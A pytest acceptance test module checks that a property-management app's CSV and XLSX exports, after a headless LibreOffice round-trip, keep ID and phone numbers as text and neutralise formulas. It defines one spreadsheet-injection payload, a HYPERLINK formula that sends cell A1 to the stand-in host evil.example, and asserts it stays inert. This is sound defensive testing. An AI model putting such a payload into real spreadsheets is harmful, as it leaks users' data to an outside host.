"""Exports opened by LibreOffice (headless), read back after LibreOffice saved them again.
Excluded from the default run: ``pytest tests/acceptance -o addopts="" -n 0`` with
``soffice`` on the PATH (apt-get install --no-install-recommends libreoffice-calc)."""

from __future__ import annotations

import shutil
import subprocess
from datetime import date

import pytest

from tests.services.conftest_complaints import intake, seed_roster as seed_complaint_roster
from tests.services.conftest_gate import gate_site, visitor  # noqa: F401
from wuye_tui.exports.exporter import export
from wuye_tui.services import complaints, gate_visits

pytestmark = pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) not installed")

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
ID_DIGITS = "110101199003074477"
DAY = date(2026, 3, 2)


def lo_roundtrip(src, tmp_path):  # type: ignore[no-untyped-def]
    """LibreOffice opens ``src`` (CSV as UTF-8, comma, standard detection) and saves it as XLSX."""
    out = tmp_path / "lo"
    profile = tmp_path / "lo-profile"
    cmd = ["soffice", f"-env:UserInstallation=file://{profile}", "--headless"]
    if src.suffix == ".csv":
        cmd.append("--infilter=CSV:44,34,76,1")
    cmd += ["--convert-to", "xlsx", "--outdir", str(out), str(src)]
    subprocess.run(cmd, check=True, capture_output=True, timeout=180)
    from openpyxl import load_workbook

    return load_workbook(out / (src.stem + ".xlsx")).worksheets[0]


def cells(ws):  # type: ignore[no-untyped-def]
    return [c for row in ws.iter_rows() for c in row if c.value is not None]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_visitors_revealed_stay_text(gate_site, tmp_path, fmt):  # noqa: F811
    gate_visits.check_in(gate_site.guard, visitor(id_number=ID_DIGITS, phone="05718888123"))
    src = tmp_path / f"visitors.{fmt}"
    export(gate_site.sup, "visitors", DAY, DAY, fmt, src, reveal=True)
    got = cells(lo_roundtrip(src, tmp_path))
    texts = {str(c.value).lstrip("\t"): c.data_type for c in got}
    assert texts[ID_DIGITS] == "s"
    assert texts["0571-8888123"] == "s"
    assert not any(c.data_type == "n" and c.value > 10**12 for c in got)  # no 1.1E+17
    assert not any(c.data_type == "f" for c in got)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_complaint_formula_is_not_live(make_ctx, tmp_path, fmt):
    desk = make_ctx("front_desk")
    seed_complaint_roster(desk)
    complaints.add_complaint(desk, **intake(description=FORMULA))
    src = tmp_path / f"complaints.{fmt}"
    export(make_ctx("supervisor"), "complaints", DAY, DAY, fmt, src, reveal=True)
    got = cells(lo_roundtrip(src, tmp_path))
    assert not any(c.data_type == "f" for c in got)
    desc = [c for c in got if str(c.value).lstrip("'") == FORMULA]
    assert len(desc) == 1 and desc[0].data_type == "s"
    assert all(c.data_type == "s" for c in got if "HYPERLINK" in str(c.value))
